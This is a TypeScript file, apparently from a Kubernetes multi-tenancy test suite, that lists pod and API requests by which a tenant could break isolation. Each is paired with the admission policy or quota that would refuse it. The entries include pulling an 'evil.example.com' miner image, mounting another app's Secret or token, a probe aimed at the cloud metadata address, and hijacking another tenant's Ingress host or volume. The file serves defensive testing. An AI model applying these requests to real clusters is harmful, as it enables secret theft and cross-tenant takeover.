import { type Change, NAMESPACE, podTemplate } from './attacks-pods';
import { post, type Request } from './attacks-requests';

/** What a tenant's owner changes in a Deployment whose pods are then accepted all the same, and what would refuse them. */
export const POD_GAPS: readonly (readonly [attempt: string, change: Change, fix: string])[] = [
  [
    'an image by a tag that may move',
    { container: { image: 'registry.example.com/shop/cart:1.4.2' } },
    'a ValidatingAdmissionPolicy that wants a digest in every image',
  ],
  [
    'an image of a registry that the platform does not allow',
    { container: { image: `evil.example.com/miner@sha256:${'b'.repeat(64)}` } },
    "a ValidatingAdmissionPolicy with the platform's list of registries",
  ],
  [
    'running as the ServiceAccount of another app, with its API token',
    { pod: { serviceAccountName: 'cartservice', automountServiceAccountToken: true } },
    'a ValidatingAdmissionPolicy that ties the ServiceAccount to the label app.kubernetes.io/instance and refuses mounted tokens; a namespace for each trust',
  ],
  [
    'a projected token for any audience',
    {
      pod: {
        volumes: [{ name: 'token', projected: { sources: [{ serviceAccountToken: { audience: 'vault', path: 'token' } }] } }],
      },
    },
    "a ValidatingAdmissionPolicy with each app's audiences",
  ],
  [
    'mounting any Secret of the namespace, though RBAC lets nobody read it',
    { pod: { volumes: [{ name: 'stolen', secret: { secretName: 'shop-tls' } }] } },
    "a ValidatingAdmissionPolicy with each app's Secrets; a namespace for each trust",
  ],
  [
    "another app's label, and with it what NetworkPolicies open for that app",
    { labels: { 'app.kubernetes.io/instance': 'cartservice' } },
    'a ValidatingAdmissionPolicy that ties app.kubernetes.io/instance to the ServiceAccount',
  ],
  [
    'a priority that the cluster made for somebody else',
    { pod: { priorityClassName: 'for-the-few' } },
    'a ResourceQuota of zero scoped to each PriorityClass that the tenant may not use; the quota controller counts only classes that are named',
  ],
  [
    'a root file system that can be written',
    { security: { readOnlyRootFilesystem: false } },
    'a ValidatingAdmissionPolicy that wants readOnlyRootFilesystem',
  ],
  [
    "the node's user namespace, where the example's pods have their own",
    { pod: { hostUsers: true } },
    'a ValidatingAdmissionPolicy that wants hostUsers false',
  ],
  [
    'a probe that makes the kubelet call another host',
    { container: { livenessProbe: { httpGet: { host: '169.254.169.254', path: '/', port: 80 } } } },
    'kubernetesVersion 1.34 or newer in the platform, whose restricted level refuses it; a ValidatingAdmissionPolicy until then',
  ],
];

const named = (name: string) => ({ name, namespace: NAMESPACE });
const services = `/api/v1/namespaces/${NAMESPACE}/services`;
const service = (name: string, spec: object) => ({ apiVersion: 'v1', kind: 'Service', metadata: named(name), spec });

const cronJob = (name: string) => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: named(name),
  spec: {
    schedule: '0 0 1 1 *',
    suspend: true,
    jobTemplate: { spec: { template: podTemplate(name, { pod: { restartPolicy: 'Never' } }) } },
  },
});

/** What else a tenant's owner may send, and what would refuse it. */
export const REQUEST_GAPS: readonly (readonly [attempt: string, request: Request, fix: string])[] = [
  [
    'a Service that takes the traffic for an address of its own choice (externalIPs)',
    post(services, service('addresses', { ports: [{ port: 443 }], externalIPs: ['203.0.113.7'] })),
    'the admission plugin DenyServiceExternalIPs, or a ValidatingAdmissionPolicy',
  ],
  [
    'a Service that is an alias of another name (ExternalName), such as for an ingress controller to follow into another tenant',
    post(services, service('alias', { type: 'ExternalName', externalName: 'reviews.bookinfo.svc.cluster.local' })),
    'a ValidatingAdmissionPolicy that refuses ExternalName',
  ],
  [
    "an Ingress for another tenant's host name",
    post(`/apis/networking.k8s.io/v1/namespaces/${NAMESPACE}/ingresses`, {
      apiVersion: 'networking.k8s.io/v1',
      kind: 'Ingress',
      metadata: named('stolen-host'),
      spec: {
        rules: [
          {
            host: 'books.example.com',
            http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'frontend', port: { number: 80 } } } }] },
          },
        ],
      },
    }),
    "a ValidatingAdmissionPolicy with each tenant's host names",
  ],
  [
    'a claim to a volume that the cluster holds ready for somebody else',
    post(`/api/v1/namespaces/${NAMESPACE}/persistentvolumeclaims`, {
      apiVersion: 'v1',
      kind: 'PersistentVolumeClaim',
      metadata: named('taken'),
      spec: {
        accessModes: ['ReadWriteOnce'],
        resources: { requests: { storage: '1Gi' } },
        storageClassName: '',
        volumeName: 'books-archive',
      },
    }),
    'a claimRef in every PersistentVolume that is made by hand; a ValidatingAdmissionPolicy that refuses spec.volumeName',
  ],
  [
    'any number of objects of a kind that the quota does not count',
    {
      args: ['create', '-f', '-'],
      body: { apiVersion: 'v1', kind: 'List', items: Array.from({ length: 101 }, (_, index) => cronJob(`idle-${index}`)) },
    },
    'count/cronjobs.batch, count/jobs.batch, count/deployments.apps and so on in the ResourceQuota',
  ],
];
